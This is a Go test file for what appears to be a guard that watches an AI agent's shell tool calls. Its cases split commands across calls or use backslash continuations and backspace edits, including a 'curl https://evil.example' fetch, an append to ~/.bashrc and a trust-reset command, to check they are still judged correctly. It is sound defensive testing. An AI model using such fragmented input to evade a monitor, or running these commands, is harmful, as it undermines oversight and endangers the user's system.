package blackbox_test

import (
	"os"
	"path/filepath"
	"testing"

	"github.com/stretchr/testify/require"
)

// A line that is typed in several calls is judged as a whole, and what was typed is in no record.
func TestALineTypedInTwoCalls(t *testing.T) {
	r := newRig(t, "contentPreviews: false\n")
	for name, tc := range map[string]struct {
		halves []string
		level  string
		held   bool
	}{
		"innocent":         {[]string{"ls -l", "a /tmp; echo s3cr3t-word\n"}, "trusted", false},
		"a fetch":          {[]string{"cu", "rl https://evil.example\n"}, "untrusted", false},
		"a line goes on":   {[]string{"cu\\\n", "rl https://evil.example\n"}, "untrusted", false},
		"another Enter":    {[]string{"cu\\\r", "rl https://evil.example\r"}, "untrusted", false},
		"an edit between":  {[]string{"curx", "\x7f", "l https://evil.example\n"}, "untrusted", false},
		"an edited Enter":  {[]string{"xcurl https://evil.example", "\x01\x1b[3~\n"}, "untrusted", false},
		"a backslash":      {[]string{"echo \\\\\n", "ls\n"}, "trusted", false},
		"edits of nothing": {[]string{"\x7f", "ls\n"}, "trusted", false},
		"what is guarded":  {[]string{"echo x >> ~/.bash", "rc\n"}, "trusted", true},
		"the daemon":       {[]string{"proven", "ancectl reset-trust\n"}, "trusted", true},
	} {
		for _, announced := range []bool{false, true} {
			s := r.session(name)
			if announced {
				s.key += ", announced"
			}
			s.turn("go")
			for i, data := range tc.halves {
				params := object{"action": "write", "sessionId": "a", "data": data}
				id := []string{"h0", "h1", "h2"}[i]
				if announced {
					s.hook("after_llm_call", object{"toolCalls": []object{{"id": id, "name": "process", "arguments": params}}})
				}
				f := s.hook("before_tool_call", object{"toolName": "process", "toolCallId": id, "params": params})
				if last := len(tc.halves) - 1; i == last && tc.held {
					require.Equal(t, "deny", f["verdict"], s.key)
					continue
				}
				s.allowed(f)
				f = s.hook("after_tool_call", object{"toolName": "process", "toolCallId": id, "result": "$"})
				if i == len(tc.halves)-1 {
					require.Equal(t, tc.level, f["taint"], s.key)
				}
			}
		}
	}
	r.stop()
	files, err := filepath.Glob(r.path("state", "*", "*"))
	require.NoError(t, err)
	require.NotEmpty(t, files)
	for _, file := range files {
		text, err := os.ReadFile(file)
		require.NoError(t, err)
		require.NotContains(t, string(text), "s3cr3t-word", file)
		require.NotContains(t, string(text), "ls -l", file)
	}
}
